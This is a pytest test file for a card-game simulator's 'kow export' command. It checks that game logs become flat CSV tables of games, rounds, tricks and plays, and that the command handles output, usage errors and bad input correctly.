"""``kow export`` and :mod:`kow.runs.export`: flat CSV tables of games, rounds, tricks and plays.

The rows are checked three ways: exact values for hand-made stacked games (a dog's-life
knock, a trump, a revival; a tie cut and the 1-card round; a game cut short), the whole of
every table against rows derived here from the logs of simulated games of many variants,
and the CLI's handling of output, bad usage and bad input.
"""

from __future__ import annotations

import copy
import csv
import dataclasses
import gzip
import io
import json
import os
import re
import subprocess
import sys
import tracemalloc
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from conftest import STOPS, agent_log, apply_all, cards, deal, new_state, play_stacked, stopped

from kow.cli import main
from kow.cli.commands.export import EXPORT_TABLES
from kow.log import LoggedPlayer, build, rules_to_log
from kow.rules import MAX_PLAYERS, Rules
from kow.runs.export import COLUMNS, TABLES, IllegalGameError, cells, csv_text, rows, tables_rows

ROOT = Path(__file__).resolve().parents[2]
RANKS = "23456789TJQKA"


def invoke(*args: str, input: bytes | str | None = None) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args), input=input)
    return result.exit_code, result.stdout, result.stderr


def as_people(game: Any) -> Any:
    """Return ``game`` with its scripted players logged as people, a kind a log may hold."""
    for player in game["players"]:
        player["kind"] = "human"
    return game


def write(path: Path, games: list[dict[str, Any]]) -> str:
    path.write_text("".join(json.dumps(g) + "\n" for g in games))
    return str(path)


def table(text: str) -> list[dict[str, str]]:
    """Parse CSV ``text`` with the csv module; check the header and every row's width."""
    reader = csv.reader(io.StringIO(text, newline=""))
    header = next(reader)
    body = list(reader)
    assert all(len(row) == len(header) for row in body)
    return [dict(zip(header, row, strict=True)) for row in body]


def export(path: str, name: str) -> list[dict[str, str]]:
    code, out, err = invoke("export", path, "--table", name)
    assert (code, err) == (0, ""), err
    assert out.splitlines()[0] == ",".join(COLUMNS[name])
    return table(out)


# --------------------------------------------------------------------------- columns


def test_the_tables_and_their_columns() -> None:
    assert TABLES == EXPORT_TABLES == tuple(COLUMNS) == ("games", "rounds", "tricks", "plays")
    for columns in COLUMNS.values():
        assert len(set(columns)) == len(columns)
        assert all(re.fullmatch(r"[a-z][a-z0-9_]*", c) for c in columns)
        assert columns[:3] == ("file", "game", "seed")
    assert COLUMNS["rounds"][3] == "round"
    assert COLUMNS["tricks"][3:5] == ("round", "trick")
    assert COLUMNS["plays"][3:6] == ("round", "trick", "play")
    rule_columns = [c for c in COLUMNS["games"] if c.startswith("rules_")]
    assert rule_columns == [f"rules_{name}" for name in rules_to_log(Rules())]
    assert [c for c in COLUMNS["rounds"] if c.startswith("tricks_won_")] == [
        f"tricks_won_{seat}" for seat in range(MAX_PLAYERS)
    ]


def test_docs_name_every_column() -> None:
    """docs/tables.md has a section per table whose rows name each column, in order."""
    text = (ROOT / "docs" / "tables.md").read_text(encoding="utf-8")
    for name, columns in COLUMNS.items():
        section = text.split(f"## `{name}`: ", 1)[1].split("\n## ", 1)[0]
        named: list[str] = []
        for first in re.findall(r"^\| (`[^|]*) \|", section, re.M):
            found = re.findall(r"`([a-z0-9_]+)`", first)
            if ".." in first:  # `hand_0` .. `hand_6`, or `tricks_won_0` .. `_6`
                stem = found[0].removesuffix("_0")
                named += [f"{stem}_{seat}" for seat in range(MAX_PLAYERS)]
            else:
                named += found
        keys = [c for c in ("file", "game", "seed", "round", "trick") if c in columns]
        assert [c for c in named if c not in keys] == [c for c in columns if c not in keys]
        assert set(keys) <= set(named), name


def test_cells_are_true_false_and_empty() -> None:
    assert cells(("f", 1, None, True, False, "Th", 0)) == ["f", 1, "", "true", "false", "Th", 0]


def test_an_unknown_table_is_refused() -> None:
    with pytest.raises(ValueError, match="no table 'hands': the tables are games, rounds"):
        rows({}, "hands", file="f", index=1)  # type: ignore[typeddict-item]


# --------------------------------------------------------------------------- stacked games
#
# The dog's-life game of tests/engine/test_engine.py: three players, 4 cards, once per game.
# Round 1 (dealer 0, 2s turned up): seat 0 takes no trick and gets a dog's life. Round 2
# (seat 1 chose hearts): seat 0 knocks on trick 1, trumps trick 2 with its one card (2h)
# and is revived; seat 1 takes nothing and is out. Round 3: seat 0 sweeps seat 2.

DOG_RULES = Rules(players=3, start_cards=4, dogs_life="once-per-game")
DOG_DECKS = [
    deal(0, ["2h 3h 4h 5h", "Ac Kc Qc 2d", "4c 5c 6c Ad"], "2s"),
    deal(1, ["2h", "2c 3c 4d", "5c Kd Ah"]),
    deal(2, ["Ac Ad", None, "Kc 3d"]),
]
DOG_SCRIPTS = [
    "2h 3h 4h 5h  knock 2h  Ac Ad",
    "Ac Kc Qc 2d  h 2c 4d 3c",
    "4c 5c 6c Ad  5c Kd Ah  c Kc 3d",
]

# The full game of tests/engine/test_engine.py: four players, 3 cards. Seats 0 and 1 are out
# after round 1; round 3 (1 card) follows a tie cut that seat 3 wins: it names diamonds
# and takes the only trick.
FULL_DECKS = [
    deal(0, ["7c 8d 9s", "3c 4c 5d", "Ac Kd As", "Qc 3h 4s"], "2h"),
    deal(2, [None, None, "Kh Qh", "Ah 2s"]),
    deal(3, [None, None, "Ac", "2d"]),
    cards("9c 9d"),
    cards("4c Jd"),
]
FULL_SCRIPTS = ["7c 8d 9s", "3c 5d 4c", "Ac Kd As h Kh Qh Ac", "Qc 3h 4s Ah 2s d 2d"]


@pytest.fixture(scope="module")
def stacked(tmp_path_factory: pytest.TempPathFactory) -> str:
    """Return a file holding the dog's-life game (seed 5) and the full game (seed 6)."""
    dog = as_people(play_stacked(DOG_RULES, 0, DOG_DECKS, DOG_SCRIPTS, seed=5))
    full = as_people(play_stacked(Rules(players=4, start_cards=3), 0, FULL_DECKS,
                                  FULL_SCRIPTS, seed=6))  # fmt: skip
    return write(tmp_path_factory.mktemp("stacked") / "stacked.jsonl", [dog, full])


def pick(row: dict[str, str], *names: str) -> tuple[str, ...]:
    return tuple(row[n] for n in names)


def by_seat(row: dict[str, str], fact: str) -> list[str]:
    return [row[f"{fact}_{seat}"] for seat in range(MAX_PLAYERS)]


def test_stacked_games_row(stacked: str) -> None:
    dog, full = export(stacked, "games")
    assert pick(dog, "file", "game", "seed", "rules_players", "rules_dogs_life") == (
        stacked, "1", "5", "3", "once-per-game")  # fmt: skip
    assert pick(dog, "rules_final_round_trump", "rules_eliminated_vote", "rules_sweep_wins") == (
        "true", "false", "true")  # fmt: skip
    assert pick(dog, "winner", "termination", "rounds_played", "abandoned") == (
        "0", "sweep", "3", "false")  # fmt: skip
    assert by_seat(dog, "name") == ["p0", "p1", "p2", "", "", "", ""]
    assert by_seat(dog, "kind") == ["human"] * 3 + [""] * 4
    assert by_seat(dog, "eliminated_round") == ["", "2", "3", "", "", "", ""]
    assert by_seat(dog, "dogs_life_round") == ["2", "", "", "", "", "", ""]
    assert pick(full, "game", "seed", "winner", "termination", "rounds_played") == (
        "2", "6", "3", "final-trick", "3")  # fmt: skip
    assert by_seat(full, "eliminated_round") == ["1", "1", "3", "", "", "", ""]
    assert by_seat(full, "dogs_life_round") == [""] * 7


def test_stacked_rounds_rows(stacked: str) -> None:
    rounds = export(stacked, "rounds")
    assert [pick(r, "game", "round") for r in rounds] == [
        ("1", "1"), ("1", "2"), ("1", "3"), ("2", "1"), ("2", "2"), ("2", "3")]  # fmt: skip
    r1, r2, r3, f1, f2, f3 = rounds
    head = ("hand_size", "dealer", "players_in", "turned_up", "trump", "trump_method",
            "trump_chosen_by", "leader")  # fmt: skip
    assert pick(r1, *head) == ("4", "0", "3", "2s", "s", "turned-up", "", "1")
    assert by_seat(r1, "hand")[:4] == ["2h 3h 4h 5h", "Ac Kc Qc 2d", "4c 5c 6c Ad", ""]
    assert by_seat(r1, "tricks_won")[:4] == ["0", "3", "1", ""]
    assert by_seat(r1, "dogs_life_granted")[:4] == ["true", "false", "false", ""]
    assert by_seat(r1, "eliminated")[:3] == ["false"] * 3
    assert pick(r2, *head) == ("3", "1", "3", "", "h", "chosen", "1", "1")
    assert by_seat(r2, "hand")[:3] == ["2h", "2c 3c 4d", "5c Kd Ah"]
    assert by_seat(r2, "dogs_life")[:3] == ["true", "false", "false"]
    assert by_seat(r2, "tricks_won")[:3] == ["1", "0", "2"]
    assert by_seat(r2, "revived")[:3] == ["true", "false", "false"]
    assert by_seat(r2, "eliminated")[:3] == ["false", "true", "false"]
    assert by_seat(r2, "dogs_life_granted")[:3] == ["false"] * 3
    assert pick(r3, *head) == ("2", "2", "2", "", "c", "chosen", "2", "2")
    assert by_seat(r3, "hand")[:3] == ["Ac Ad", "", "Kc 3d"]
    assert by_seat(r3, "tricks_won")[:3] == ["2", "", "0"]
    assert by_seat(r3, "dogs_life")[:3] == ["false"] * 3  # seat 1 is out: false, not empty
    assert by_seat(r3, "eliminated") == ["false", "false", "true", "", "", "", ""]
    assert pick(f1, "turned_up", "trump", "trump_method") == ("2h", "h", "turned-up")
    assert by_seat(f1, "eliminated")[:4] == ["true", "true", "false", "false"]
    assert pick(f2, "trump", "trump_method", "trump_chosen_by", "leader") == (
        "h", "chosen", "2", "2")  # fmt: skip
    assert pick(f3, "hand_size", "players_in", "trump", "trump_method", "trump_chosen_by") == (
        "1", "2", "d", "chosen", "3")  # fmt: skip  # seat 3 won the tie cut


def test_stacked_tricks_rows(stacked: str) -> None:
    tricks = [t for t in export(stacked, "tricks") if t["game"] == "1" and t["round"] == "2"]
    columns = ("trick", "leader", "led_suit", "cards", "knocks", "winning_card", "winner",
               "trumped")  # fmt: skip
    assert [pick(t, *columns) for t in tricks] == [
        ("1", "1", "c", "2", "1", "5c", "2", "false"),
        ("2", "2", "d", "3", "0", "2h", "0", "true"),
        ("3", "1", "c", "2", "0", "Ah", "2", "true"),  # seat 0 won trick 2: its left leads
    ]


def test_stacked_plays_rows_with_a_knock(stacked: str) -> None:
    plays = [p for p in export(stacked, "plays") if p["game"] == "1" and p["round"] == "2"]
    columns = ("trick", "play", "seat", "knock", "card", "lead", "followed_suit", "trumped",
               "winning", "won")  # fmt: skip
    t, f = "true", "false"
    assert [pick(p, *columns) for p in plays] == [
        ("1", "1", "1", f, "2c", t, f, f, t, f),
        ("1", "2", "2", f, "5c", f, t, f, t, t),
        ("1", "3", "0", t, "", f, f, f, f, f),  # the dog's-life knock
        ("2", "1", "2", f, "Kd", t, f, f, t, f),
        ("2", "2", "0", f, "2h", f, f, t, t, t),  # its one card trumps
        ("2", "3", "1", f, "4d", f, t, f, f, f),
        ("3", "1", "1", f, "3c", t, f, f, t, f),
        ("3", "2", "2", f, "Ah", f, f, t, t, t),
    ]
    round_1 = [p for p in export(stacked, "plays") if p["game"] == "1" and p["round"] == "1"]
    discards = [p["card"] for p in round_1 if p["lead"] == p["followed_suit"] == p["trumped"]]
    assert discards == ["2h", "3h", "4h", "5h"]  # seat 0's hearts on clubs and diamonds


def abandoned_game() -> Any:
    """Return the dog's-life game cut short in round 2's first trick, after two cards."""
    state = new_state(DOG_RULES, 0, DOG_DECKS[:2], seed=8)
    apply_all(state, "Ac 4c 2h Kc 5c 3h Qc 6c 4h 2d Ad 5h  h 2c 5c")
    players = [LoggedPlayer(f"p{s}", "human") for s in range(3)]
    return build(8, DOG_RULES, players, events=state.events, abandoned=True)


def test_a_game_cut_short(tmp_path: Path) -> None:
    path = write(tmp_path / "short.jsonl", [abandoned_game()])
    (game,) = export(path, "games")
    assert pick(game, "winner", "termination", "rounds_played", "abandoned") == (
        "", "", "2", "true")  # fmt: skip
    assert by_seat(game, "eliminated_round")[:3] == ["", "", ""]
    assert by_seat(game, "dogs_life_round")[:3] == ["2", "", ""]
    r1, r2 = export(path, "rounds")
    assert by_seat(r1, "tricks_won")[:3] == ["0", "3", "1"]
    assert pick(r2, "trump", "trump_method", "trump_chosen_by", "leader") == (
        "h",
        "chosen",
        "1",
        "1",
    )
    for fact in ("tricks_won", "eliminated", "dogs_life_granted", "revived"):
        assert by_seat(r2, fact) == [""] * 7, fact  # the round did not end
    trick = export(path, "tricks")[-1]
    assert pick(trick, "round", "trick", "leader", "led_suit", "cards", "winning_card",
                "winner") == ("2", "1", "1", "c", "2", "", "")  # fmt: skip
    plays = export(path, "plays")[-2:]
    assert [pick(p, "seat", "card", "winning", "won") for p in plays] == [
        ("1", "2c", "true", ""), ("2", "5c", "true", "")]  # fmt: skip


def test_a_null_seed_leaves_the_seed_cells_empty(tmp_path: Path) -> None:
    # A game played through a framework adapter: its deals came from outside kow.
    game = agent_log(None)
    path = write(tmp_path / "os.jsonl", [game, agent_log(5)])
    null, seeded = export(path, "games")
    assert pick(null, "file", "game", "seed", "kow_version", "rules_players") == (
        path, "1", "", game["kow_version"], "3")  # fmt: skip
    assert by_seat(null, "kind") == ["agent", "heuristic", "heuristic", "", "", "", ""]
    assert by_seat(null, "name")[:3] == ["ppo", "heuristic-1", "heuristic-2"]
    assert pick(seeded, "game", "seed") == ("2", "5")
    for table in ("rounds", "tricks", "plays"):  # every row of the game: seed empty
        rows_ = export(path, table)
        assert {r["seed"] for r in rows_ if r["game"] == "1"} == {""}, table
        assert {r["seed"] for r in rows_ if r["game"] == "2"} == {"5"}, table
    plays = [p for rnd in game["rounds"] for t in rnd["tricks"] for p in t["plays"]]
    assert len([r for r in export(path, "plays") if r["game"] == "1"]) == len(plays)
    assert rows(game, "games", file="os.jsonl", index=1)[0][:3] == ("os.jsonl", 1, None)


# --------------------------------------------------------------------------- agreement
#
# Every table of simulated games of many variants, against rows derived here from the
# logs alone (a second statement for the test: follow suit and what beats what).

VARIANTS = [
    ["--seed", "1", "--games", "12"],
    ["--seed", "2", "--games", "10", "--players", "3", "--dogs-life", "once-per-player",
     "--no-sweep-wins", "--bots", "random"],
    ["--seed", "3", "--games", "6", "--players", "7", "--eliminated-vote", "--bots", "random"],
    ["--seed", "4", "--games", "8", "--players", "2", "--fixed-trump",
     "--no-final-round-trump", "--lead", "dealer-left"],
    ["--seed", "5", "--games", "8", "--players", "5", "--dogs-life", "once-per-game",
     "--start-cards", "5", "--bots", "random,heuristic,random,heuristic,random"],
]  # fmt: skip


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[dict[str, Any]]]:
    """Return two files of simulated games, by path: every variant, and the first again."""
    tmp = tmp_path_factory.mktemp("runs")
    texts = []
    for variant in VARIANTS:
        code, out, err = invoke("simulate", *variant)
        assert code == 0, err
        texts.append(out)
    everything = tmp / "variants.jsonl"
    everything.write_text("".join(texts))
    again = tmp / "again.jsonl"
    again.write_text(texts[0])
    return {
        str(path): [json.loads(line) for line in path.read_text().splitlines()]
        for path in (everything, again)
    }


def beats(card: str, winning: str, trump: str | None) -> bool:
    if card[1] == winning[1]:
        return RANKS.index(card[0]) > RANKS.index(winning[0])
    return card[1] == trump


def text(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


def seat_columns(fact: str, values: list[Any]) -> dict[str, str]:
    padded = values + [None] * (MAX_PLAYERS - len(values))
    return {f"{fact}_{seat}": text(v) for seat, v in enumerate(padded)}


def expected(file: str, games: list[dict[str, Any]]) -> dict[str, list[dict[str, str]]]:
    """Return the rows of every table for ``games``, derived from the logs."""
    out: dict[str, list[dict[str, str]]] = {name: [] for name in TABLES}
    for index, g in enumerate(games, start=1):
        key = {"file": file, "game": str(index), "seed": str(g["seed"])}
        n = g["rules"]["players"]
        out_round: list[int | None] = [None] * n
        dog_round: list[int | None] = [None] * n
        for r in g["rounds"]:
            rk = {**key, "round": str(r["number"])}
            for s in r["eliminated"]:
                out_round[s] = r["number"]
            for s in r["dogs_life"]:
                dog_round[s] = r["number"]
            out["rounds"].append({
                **rk, "hand_size": text(r["hand_size"]), "dealer": text(r["dealer"]),
                "players_in": text(sum(h is not None for h in r["hands"])),
                "turned_up": text(r["turned_up"]), "trump": text(r["trump"]),
                "trump_method": text(r["trump_method"]),
                "trump_chosen_by": text(r["trump_chosen_by"]), "leader": text(r["leader"]),
                **seat_columns("hand", [h and " ".join(h) for h in r["hands"]]),
                **seat_columns("tricks_won", r["tricks_won"]),
                **{k: v for fact in ("dogs_life", "eliminated", "dogs_life_granted", "revived")
                   for k, v in seat_columns(fact, [s in r[fact] for s in range(n)]).items()},
            })  # fmt: skip
            for t in r["tricks"]:
                tk = {**rk, "trick": str(t["number"])}
                played = [p for p in t["plays"] if not p.get("knock")]
                led = played[0]["card"][1]
                winning = played[0]["card"]
                any_trumped = False
                for number, p in enumerate(t["plays"], start=1):
                    knock = bool(p.get("knock"))
                    card = None if knock else p["card"]
                    lead = card is not None and card == played[0]["card"]
                    followed = not knock and not lead and card[1] == led  # type: ignore[index]
                    trumped = not knock and not lead and card[1] == r["trump"] != led  # type: ignore[index]
                    is_winning = lead or (not knock and beats(card, winning, r["trump"]))  # type: ignore[arg-type]
                    if is_winning:
                        winning = card
                    any_trumped |= trumped
                    out["plays"].append({
                        **tk, "play": str(number), "seat": str(p["seat"]), "knock": text(knock),
                        "card": text(card), "lead": text(lead),
                        "followed_suit": text(followed), "trumped": text(trumped),
                        "winning": text(is_winning), "won": text(p["seat"] == t["winner"]),
                    })  # fmt: skip
                won = next(p["card"] for p in played if p["seat"] == t["winner"])
                assert won == winning  # the test's own rule agrees with the log
                out["tricks"].append({
                    **tk, "leader": str(t["leader"]), "led_suit": led,
                    "cards": str(len(played)), "knocks": str(len(t["plays"]) - len(played)),
                    "winning_card": won, "winner": str(t["winner"]),
                    "trumped": text(any_trumped),
                })  # fmt: skip
        last = g["rounds"][-1]
        if last["hand_size"] == 1:
            termination = "final-trick"
        elif g["rules"]["sweep_wins"] and max(last["tricks_won"], key=lambda x: x or 0) == len(
            last["tricks"]
        ):
            termination = "sweep"
        else:
            termination = "last-standing"
        assert termination == g["result"]["termination"]  # the test's rule agrees with the log
        out["games"].append({
            **key, "kow_version": g["kow_version"],
            **{f"rules_{k}": text(v) for k, v in g["rules"].items()},
            "winner": text(g["result"]["winner"]), "termination": termination,
            "rounds_played": text(g["result"]["rounds_played"]), "abandoned": "false",
            **seat_columns("name", [p["name"] for p in g["players"]]),
            **seat_columns("kind", [p["kind"] for p in g["players"]]),
            **seat_columns("eliminated_round", out_round),
            **seat_columns("dogs_life_round", dog_round),
        })  # fmt: skip
    return out


@pytest.mark.parametrize("name", TABLES)
def test_every_row_agrees_with_the_logs(runs: dict[str, list[dict[str, Any]]], name: str) -> None:
    paths = list(runs)
    code, out, err = invoke("export", *paths, "--table", name)
    assert (code, err) == (0, "")
    got = table(out)
    want = [row for path, games in runs.items() for row in expected(path, games)[name]]
    assert len(got) == len(want)
    for a, b in zip(got, want, strict=True):
        assert a == b
    assert list(got[0]) == list(COLUMNS[name])


def test_row_counts_match_the_logs(runs: dict[str, list[dict[str, Any]]]) -> None:
    path, games = next(iter(runs.items()))
    counts = {
        "games": len(games),
        "rounds": sum(len(g["rounds"]) for g in games),
        "tricks": sum(len(r["tricks"]) for g in games for r in g["rounds"]),
        "plays": sum(len(t["plays"]) for g in games for r in g["rounds"] for t in r["tricks"]),
    }
    for name, count in counts.items():
        assert len(export(path, name)) == count
    plays = export(path, "plays")
    knocks = sum(p.get("knock", False) for g in games for r in g["rounds"]
                 for t in r["tricks"] for p in t["plays"])  # fmt: skip
    assert sum(p["knock"] == "true" for p in plays) == knocks > 0  # the dog's-life variants
    assert {p["won"] for p in plays} == {"true", "false"}
    tricks = export(path, "tricks")
    assert sum(p["won"] == "true" for p in plays) == len(tricks)  # one winner per trick
    assert {g["rules_players"] for g in export(path, "games")} == {"2", "3", "4", "5", "7"}
    rounds = export(path, "rounds")
    assert {r["trump_method"] for r in rounds} == {"turned-up", "chosen", "fixed", "vote", "none"}


def test_game_index_counts_from_1_in_each_file(runs: dict[str, list[dict[str, Any]]]) -> None:
    first, second = runs
    code, out, _ = invoke("export", first, second, "--table", "games")
    assert code == 0
    keys = [(r["file"], r["game"]) for r in table(out)]
    assert keys == [(first, str(i)) for i in range(1, len(runs[first]) + 1)] + [
        (second, str(i)) for i in range(1, len(runs[second]) + 1)
    ]


def test_stdin_and_pretty_input(runs: dict[str, list[dict[str, Any]]]) -> None:
    path, games = next(iter(runs.items()))
    pretty = "".join(json.dumps(g, indent=2) + "\n" for g in games[:3])
    code, out, err = invoke("export", "-", "--table", "tricks", input=pretty)
    assert (code, err) == (0, "")
    want = expected("stdin", games[:3])["tricks"]
    assert table(out) == want


def test_gzip_input_is_read_as_verify_reads_it(
    runs: dict[str, list[dict[str, Any]]], tmp_path: Path
) -> None:
    """The export reads through kow.log.iter_games, so it reads what verify reads."""
    path, games = next(iter(runs.items()))
    packed = tmp_path / "games.jsonl.gz"
    packed.write_bytes(gzip.compress(Path(path).read_bytes()))
    assert export(str(packed), "rounds") == expected(str(packed), games)["rounds"]


# --------------------------------------------------------------------------- output


def test_output_file_is_written_whole(stacked: str, tmp_path: Path) -> None:
    target = tmp_path / "plays.csv"
    target.write_text("old\n")
    code, out, err = invoke("export", stacked, "--table", "plays", "-o", str(target))
    assert (code, out, err) == (0, "", "")
    assert table(target.read_text()) == export(stacked, "plays")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plays.csv"]


def test_output_file_is_left_as_it_was_on_a_bad_game(stacked: str, tmp_path: Path) -> None:
    lines = Path(stacked).read_text().splitlines()
    bad = json.loads(lines[1])
    bad["rounds"][0]["tricks"][0]["winner"] = 3
    path = tmp_path / "bad.jsonl"
    path.write_text(lines[0] + "\n" + json.dumps(bad) + "\n")
    target = tmp_path / "out.csv"
    target.write_text("old\n")
    code, out, err = invoke("export", str(path), "--table", "games", "-o", str(target))
    assert code == 1 and out == ""
    assert target.read_text() == "old\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bad.jsonl", "out.csv"]
    assert err.startswith(f"Error: {path}: game 2 (seed 6): round 1, trick 1: ")
    assert err.endswith("; the export stops at a game that is not legal\n")
    # On stdout, the rows of the games before it are written, and no row of it.
    code, out, err = invoke("export", str(path), "--table", "games")
    assert code == 1 and [r["game"] for r in table(out)] == ["1"]


def test_rows_raise_for_a_game_that_is_not_legal(stacked: str) -> None:
    game = json.loads(Path(stacked).read_text().splitlines()[0])
    game["rounds"][1]["tricks"][1]["plays"][1]["card"] = "3h"  # seat 0 holds 2h, not 3h
    with pytest.raises(IllegalGameError) as caught:
        rows(game, "plays", file="f", index=1)
    assert (caught.value.fault.round, caught.value.fault.trick) == (2, 2)


def closed_early(*args: str) -> tuple[int, bytes]:
    """Run ``kow ARGS`` until it has written one line, then close its stdout (as ``| head
    -n 1`` does); return its exit code and stderr."""
    proc = subprocess.Popen(
        [sys.executable, "-m", "kow", *args],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=ROOT,
    )  # fmt: skip
    assert proc.stdout is not None and proc.stderr is not None
    first = proc.stdout.readline()
    assert first
    proc.stdout.close()
    err = proc.stderr.read()
    proc.stderr.close()
    return proc.wait(timeout=120), err


def test_stdout_closed_early_ends_as_simulate_does(runs: dict[str, list[dict[str, Any]]]) -> None:
    """``kow export ... | head -n 1``: no message, and the exit code of every command whose
    stdout closed (that of ``kow simulate``), never 1 (a fault of an input)."""
    path = next(iter(runs))
    code, err = closed_early("export", path, path, path, "--table", "plays")
    assert err == b""
    assert (code, err) == closed_early("simulate", "--seed", "1", "--games", "2000", "-j", "1")
    assert code != 1


@pytest.mark.parametrize(("several", "counts"), [(False, (10, 150)), (True, (150, 600))])
def test_memory_stays_flat(
    stacked: str, tmp_path: Path, several: bool, counts: tuple[int, int]
) -> None:
    # Four tables: past the input's first reads (10 games fill fewer than 150 do).
    game = Path(stacked).read_text().splitlines()[0] + "\n"
    peaks: list[Any] = []
    for count in counts:
        path = tmp_path / f"{count}.jsonl"
        path.write_text(game * count)
        out = ["--table", "all", "-o", str(tmp_path / f"t{count}")] if several else [
            "--table", "plays", "-o", os.devnull]  # fmt: skip
        if not peaks:  # once untraced, so that what is made once a run is in both peaks
            assert invoke("export", str(path), *out)[0] == 0
        tracemalloc.start()
        code, _, err = invoke("export", str(path), *out)
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert (code, err) == (0, (
            f"{path}: game 2 (line 2) repeats game 1 whole\n"
            f"{path}: {count - 1} games in all repeat an earlier game whole\n"))  # fmt: skip
        peaks.append(peak)
    assert peaks[1] < peaks[0] + 300_000, peaks


# --------------------------------------------------------------------------- bad usage, bad input


def test_table_missing_or_unknown_is_a_usage_error(stacked: str) -> None:
    code, out, err = invoke("export", stacked)
    assert (code, out) == (2, "")
    assert "Missing option '--table'" in err and "games" in err and "plays" in err
    said = [line for line in err.splitlines() if line.startswith("Error:")]
    assert said == [  # one line, not one a choice
        "Error: Missing option '--table': give games, rounds, tricks, plays or all (repeat"
        " --table for several tables)"
    ]
    code, out, err = invoke("export", stacked, "--table", "hands")
    assert (code, out) == (2, "")
    assert (
        "Invalid value for '--table': 'hands' is not one of 'games', 'rounds', 'tricks', 'plays'"
        in err
    )
    code, _, err = invoke("export", "--table", "games")
    assert code == 2 and "Missing argument 'FILE...'" in err


def test_files_that_cannot_be_opened_are_usage_errors(stacked: str, tmp_path: Path) -> None:
    missing = tmp_path / "missing.jsonl"
    code, out, err = invoke("export", stacked, str(missing), "--table", "games")
    assert (code, out) == (2, "")  # found before any row is written
    assert f"cannot open {str(missing)!r}: No such file or directory" in err
    code, out, err = invoke("export", str(tmp_path), "--table", "games")
    assert (code, out) == (2, "") and f"cannot open {str(tmp_path)!r}: Is a directory" in err
    code, out, err = invoke("replay", str(tmp_path))  # the same words as replay's
    assert (code, out) == (2, "") and f"cannot open {str(tmp_path)!r}: Is a directory" in err
    code, out, err = invoke("export", "-", "-", "--table", "games", input="")
    assert (code, out) == (2, "") and "'-' (stdin) is given 2 times" in err


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b'{"format": "kow-log",\n  "seed": }\n', ("line 2, column 11: not JSON",)),
        (
            b'{"a": "h\\uDFFF"}\n',
            ("line 1, column 9: not JSON: a lone surrogate escape (\\uDFFF)",),
        ),
        (b'{"a": "\xff"}\n', ("line 1", "not UTF-8 text")),
    ],
)
def test_input_that_cannot_be_read_exits_1_naming_the_place(
    tmp_path: Path, data: bytes, message: tuple[str, ...]
) -> None:
    path = tmp_path / "in.jsonl"
    path.write_bytes(data)
    code, out, err = invoke("export", str(path), "--table", "rounds")
    assert code == 1
    assert out == ",".join(COLUMNS["rounds"]) + "\n"  # the header only
    assert err.startswith(f"Error: {path}: ") and all(part in err for part in message)
    assert "Traceback" not in err


def test_a_value_that_is_not_a_game(tmp_path: Path) -> None:
    path = tmp_path / "in.jsonl"
    path.write_text('{"format": "kow-log"}\n')
    code, _, err = invoke("export", str(path), "--table", "games")
    assert code == 1
    assert err.startswith(f"Error: {path}: game 1: ")


@pytest.mark.parametrize("data", [b"", b"\n  \n", b"[]", b"[]\n[]\n"])
def test_input_with_no_game_writes_the_header_only(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "in.jsonl"
    path.write_bytes(data)
    code, out, err = invoke("export", str(path), "--table", "games")
    assert (code, out, err) == (0, ",".join(COLUMNS["games"]) + "\n", "")


# Column types: the same whatever the input (kow.runs.export.TYPES, docs/tables.md)

DOC_TYPES = {"int": int, "seat": int, "bool": bool, "str": str, "card": str, "suit": str}


def test_types_cover_every_column_and_match_the_docs() -> None:
    from kow.runs.export import TYPES

    assert {t: tuple(types) for t, types in TYPES.items()} == COLUMNS
    text = (ROOT / "docs" / "tables.md").read_text(encoding="utf-8")
    for name, types in TYPES.items():
        section = text.split(f"## `{name}`: ", 1)[1].split("\n## ", 1)[0]
        for first, kind in re.findall(r"^\| (`[^|]*) \| ([a-z]+) \|", section, re.M):
            found = re.findall(r"`([a-z0-9_]+)`", first)
            stem = found[0].removesuffix("_0")
            named = [f"{stem}_{s}" for s in range(MAX_PLAYERS)] if ".." in first else found
            assert {types[c] for c in named} == {DOC_TYPES[kind]}, (name, first)


def test_every_cell_has_its_columns_type(runs: dict[str, list[dict[str, Any]]]) -> None:
    from kow.runs.export import TYPES

    path, games = next(iter(runs.items()))
    for name, types in TYPES.items():
        kinds = list(types.values())
        for index, game in enumerate(games[:20], start=1):
            for row in rows(game, name, file=path, index=index):  # type: ignore[arg-type]
                for value, kind in zip(row, kinds, strict=True):
                    assert value is None or type(value) is kind, (name, value, kind)


def doc_snippets() -> list[str]:
    """Return the Python blocks of docs/tables.md's section on reading with types."""
    text = (ROOT / "docs" / "tables.md").read_text(encoding="utf-8")
    section = text.split("## Reading the tables with their types", 1)[1].split("\n## ", 1)[0]
    return re.findall(r"```python\n(.*?)```", section, re.S)


@pytest.fixture(scope="module")
def four_player_rounds(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A rounds table of 4-player games: seats 4..6 empty in every row."""
    folder = tmp_path_factory.mktemp("four")
    games = folder / "games.jsonl"
    code, _, err = invoke(
        "simulate", "--seed", "3", "--games", "20", "--players", "4", "-q",
        "--dogs-life", "once-per-player", "-o", str(games),
    )  # fmt: skip
    assert code == 0, err
    code, _, err = invoke(
        "export", str(games), "--table", "rounds", "-o", str(folder / "rounds.csv")
    )
    assert code == 0, err
    return folder / "rounds.csv"


def test_pandas_reads_every_column_with_its_documented_dtype(
    four_player_rounds: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pd = pytest.importorskip("pandas")
    from kow.runs.export import TYPES

    monkeypatch.chdir(four_player_rounds.parent)
    (pandas_block, _) = doc_snippets()
    scope: dict[str, Any] = {}
    exec(pandas_block, scope)
    frame = scope["rounds"]
    names = {int: "Int64", bool: "boolean", str: "string"}
    assert list(frame.columns) == list(COLUMNS["rounds"])
    for column, kind in TYPES["rounds"].items():
        assert frame[column].dtype == pd.api.types.pandas_dtype(names[kind]), column
    assert frame["hand_6"].isna().all() and frame["dogs_life_6"].isna().all()
